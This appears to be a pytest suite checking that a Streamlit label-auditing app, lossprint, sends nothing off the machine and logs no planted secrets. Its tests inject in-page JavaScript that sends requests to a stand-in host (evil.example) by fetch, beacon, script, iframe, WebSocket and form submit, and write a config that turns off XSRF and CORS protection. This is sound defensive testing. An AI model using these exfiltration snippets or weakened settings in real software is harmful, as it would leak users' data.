"""Nothing leaves the machine: no request of a page, no connection of a process; and the log repeats nothing."""

import json
import os
import re
import subprocess
import sys
import textwrap
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from browser import HOSTILE, PAGES, flag_many, follow, in_browser, visit, watched
from helpers import free_port, make_run
from oidc import Cookies, Raw, app

from lossprint.audit.report.write import report_bytes

SECRET = "PLANTED-7f3a"
TOLD = """
[browser]
gatherUsageStats = true
[server]
enableCORS = false
enableXsrfProtection = false
enableAgentApi = true
enableStaticServing = true
maxUploadSize = 9999
scriptHealthCheckEnabled = true
trustedUserHeaders = '{"X-User": "email"}'
[logger]
level = "debug"
"""
# Says what was tried, and refuses it: no connection, no look-up of a name, no datagram but to this machine.
HOOK = """
import os, sys

HERE = {"127.0.0.1", "::1", "localhost", "0.0.0.0", "::", "", None, b"localhost", b"127.0.0.1"}

def hook(event, args):
    if event in ("socket.connect", "socket.sendto", "socket.sendmsg"):
        place = args[1]
        if not isinstance(place, tuple) or str(place[0]).startswith("127.") or place[0] in HERE:
            return
    elif event in ("socket.getaddrinfo", "socket.gethostbyname", "socket.gethostbyaddr"):
        place = args[0]
        if place in HERE or str(place).startswith("127."):
            return
    else:
        return
    with open(os.environ["TRIED"], "a") as out:
        out.write(f"{event} {place} {sys.argv[:3]}\\n")
    raise OSError(101, "Network is unreachable")

sys.addaudithook(hook)
with open(os.environ["TRIED"] + ".loaded", "a") as out:
    out.write(str(sys.argv[:2]) + "\\n")
"""


def settled_otherwise(place) -> None:
    """A home and a working directory whose Streamlit settings would let everything out."""
    for folder in (place, place / "home"):
        (folder / ".streamlit").mkdir(parents=True)
        (folder / ".streamlit" / "config.toml").write_text(TOLD)


@pytest.fixture(scope="module")
def walked(tmp_path_factory):
    """A server with hostile labels, started where every setting says otherwise; nothing else is there."""
    place = tmp_path_factory.mktemp("leaks")
    run = make_run(place / "hostile", kind="folder", classes=(HOSTILE, f"coat {SECRET}"), train=30, held_out=6)
    flag_many(run)
    settled_otherwise(place / "srv")
    home = str(place / "srv" / "home")
    with app(run.path, place / "srv", port=free_port(), roles=None, fresh=True, HOME=home) as served:
        yield served
    assert SECRET not in served.said(), served.said()


@pytest.mark.proof  # `watched` sees the same on every page of every test, but for beacons and what is sent late
@in_browser
def test_no_page_asks_anything_of_another_machine(chromium, walked):
    asked, sockets = [], []
    with watched(chromium) as page:
        page.context.on("request", lambda one: asked.append(one.url))
        page.on("websocket", lambda one: sockets.append(one.url))
        page.add_init_script("navigator.sendBeacon = (url) => fetch(url)")
        visit(page, f"{walked.url}/labels?run=run&open=11", "Wrong labels")
        visit(page, f"{walked.url}/?run=run", "Overview")
        for title in PAGES:
            follow(page, title)
        page.wait_for_timeout(1000)  # what is sent with a delay
    elsewhere = [one for one in asked if urlsplit(one).scheme in ("http", "https", "ws", "wss")]
    elsewhere = [one for one in elsewhere + sockets if urlsplit(one).hostname not in ("localhost", "127.0.0.1")]
    assert len(asked) > 60 and sockets
    assert elsewhere == []


@in_browser
def test_a_request_elsewhere_fails_whatever_test_looks_on(chromium, walked):
    told = r"asked another machine: \['https://evil.example/fetch'"
    with pytest.raises(AssertionError, match=told), watched(chromium) as page:
        page.goto("about:blank")
        page.evaluate("async () => { try { await fetch('https://evil.example/fetch') } catch { } }")


@in_browser
def test_the_page_may_not_reach_another_site_whatever_runs_in_it(chromium, walked):
    context = chromium.new_context()
    page, gone = context.new_page(), []
    context.route(re.compile(r"evil\.example"), lambda route: (gone.append(route.request.url), route.abort()))
    page.goto(walked.url)
    page.get_by_role("heading", name="Overview").wait_for()
    page.evaluate(
        """async () => {
          const image = new Image(); image.src = "https://evil.example/image"
          document.body.append(image)
          try { await fetch("https://evil.example/fetch") } catch (error) { void error }
          navigator.sendBeacon("https://evil.example/beacon", "x")
          const script = document.createElement("script"); script.src = "https://evil.example/script"
          document.body.append(script)
          const frame = document.createElement("iframe"); frame.src = "https://evil.example/frame"
          document.body.append(frame)
          try { new WebSocket("wss://evil.example/socket") } catch (error) { void error }
          const form = document.createElement("form"); form.action = "https://evil.example/form"
          document.body.append(form); form.submit()
        }"""
    )
    page.wait_for_timeout(300)
    assert gone == [] and urlsplit(page.url).hostname == "localhost"
    context.close()


def test_no_setting_of_the_user_or_of_the_folder_undoes_ours(walked):
    cookies = Cookies(walked.url)
    with Raw(cookies) as raw:
        raw.run()
        assert raw.config.gather_usage_stats is False
        assert raw.config.max_cached_message_age >= 0 and raw.started.user_info.installation_id != ""
    for path in ("/_stcore/script-health-check", "/app/static/x"):
        status, content, _ = cookies.get(path)
        assert status == 404 or b"<title>Streamlit" in content, path
    status, content, _ = cookies.get("/_stcore/agent/interact", "POST", b"{}", **{"Content-Type": "application/json"})
    assert status == 403 and b"not_available" in content
    assert json.loads(cookies.get("/_stcore/host-config")[1])["allowedOrigins"] == []
    answer = cookies.get("/_stcore/upload_file/none/one", "PUT", b"x")
    assert answer[0] == 403 and b"XSRF" in answer[1]
    for path, host in (("/", "evil.example"), ("/media/x", "evil.example"), ("/_stcore/metrics", "evil.example:80")):
        assert cookies.get(path, Host=host)[0] == 403


def test_the_log_repeats_nothing_that_it_was_sent(walked):
    """Planted in URLs, cookies, events and labels (the fixture looks at the whole log at the end)."""
    cookies = Cookies(walked.url)
    for path in (
        "/?token=",
        "/labels?run=",
        "/media/",
        "/auth/login?provider=",
        "/oauth2callback?error=a&error_description=",
    ):
        cookies.get(path + SECRET, Cookie=f"_streamlit_user={SECRET}; a={SECRET}", Authorization=f"Bearer {SECRET}")
    cookies = Cookies(walked.url)
    for query in (f"run={SECRET}", f"sample={SECRET}&open={SECRET}", f"finding={SECRET}&queue={SECRET}&page={SECRET}"):
        for name in ("labels", "sample", "review", "map", "disagreements"):
            with Raw(cookies, page=name, query=query) as raw:
                raw.run()
    with Raw(cookies, page="labels") as raw:
        raw.run()
        for event in ({"act": {"action": SECRET, "ids": [SECRET]}}, {"act": {"ids": SECRET}}, {"open": SECRET}):
            raw.trigger("gallery-label_error", **event)  # fails in the callback: its words would be in the traceback
            assert "could not be shown" in raw.seen
        raw.socket.send(SECRET.encode())
    said = walked.said()
    assert "ValueError at" in said and "KeyError at" in said and "Traceback" not in said
    assert SECRET not in said


class References(HTMLParser):
    """Whatever a page of HTML would fetch by itself."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            fetched = name in ("src", "srcset", "poster", "data", "background") or (name == "href" and tag != "a")
            if fetched and not (value or "").startswith(("data:", "#")):
                self.found.append((tag, name, value))
            if name == "style":
                self.handle_data(value or "")

    def handle_data(self, data):
        self.found += re.findall(r"url\((?!['\"]?(?:data:|#))[^)]*\)|@import[^;]*", data)


def test_the_report_needs_nothing_from_elsewhere(tmp_path):
    run = make_run(tmp_path / "one", train=30, held_out=6)
    flag_many(run)
    text = report_bytes(run).decode()
    parser = References()
    parser.feed(text)
    assert "<style" in text and "data:image" in text
    assert parser.found == []


@pytest.mark.proof  # conftest refuses the same in the tests' own processes
def test_no_process_connects_to_or_looks_up_another_machine(small_dataset, tmp_path):
    """Audit, score, report, exports and the app, in processes that are told of every attempt and refuse it."""
    (tmp_path / "hook").mkdir()
    (tmp_path / "hook" / "sitecustomize.py").write_text(HOOK)
    tried, run = tmp_path / "tried", tmp_path / "run"
    around = {
        "PYTHONPATH": os.pathsep.join([str(tmp_path / "hook"), *filter(None, [os.environ.get("PYTHONPATH")])]),
        "TRIED": str(tried),
        "HOME": str(tmp_path / "srv" / "home"),
        "OMP_NUM_THREADS": "1",
    }
    settled_otherwise(tmp_path / "srv")
    code = f"""
    from lossprint.audit.cli.main import main
    run, out = {str(run)!r}, {str(tmp_path)!r}
    for one in (
        ["audit", {str(small_dataset)!r}, "--out", run, "--epochs", "1", "--curvature-checkpoints", "1", "--quiet"],
        ["score", run],
        ["report", run, "--out", out + "/report.html"],
        ["export", "findings", run, "--out", out + "/findings.csv"],
        ["export", "cleaned", run, "--out", out + "/cleaned"],
        ["export", "coreset", run, "--method", "random", "--fraction", "0.5", "--out", out + "/coreset.csv"],
        ["reviews", "status", run],
    ):
        assert main(one) == 0, one
    """
    command = [sys.executable, "-c", textwrap.dedent(code)]
    made = subprocess.run(command, env={**os.environ, **around}, capture_output=True, text=True, timeout=300)
    assert made.returncode == 0, made.stderr
    with app(run, tmp_path / "srv", port=free_port(), roles=None, fresh=True, **around) as served:
        cookies = Cookies(served.url)
        for page in ("", "labels", "export", "map"):
            with Raw(cookies, page=page) as raw:
                raw.run()
                assert "could not be shown" not in raw.seen
                assert all(raw.make(one) for one in raw.deferred.values())
        # Streamlit would ask a server elsewhere for the address of this machine, to compare it with.
        with pytest.raises(Exception, match="403"), Raw(cookies, origin="https://evil.example"):
            pass
    assert len((tmp_path / "tried.loaded").read_text().splitlines()) >= 2, "the hook was there"
    assert not tried.exists(), tried.read_text()
    probe = [sys.executable, "-c", "import socket; socket.create_connection(('192.0.2.1', 9), 1)"]
    assert subprocess.run(probe, env={**os.environ, **around}, capture_output=True).returncode != 0
    assert "192.0.2.1" in tried.read_text(), "the hook sees what is tried"
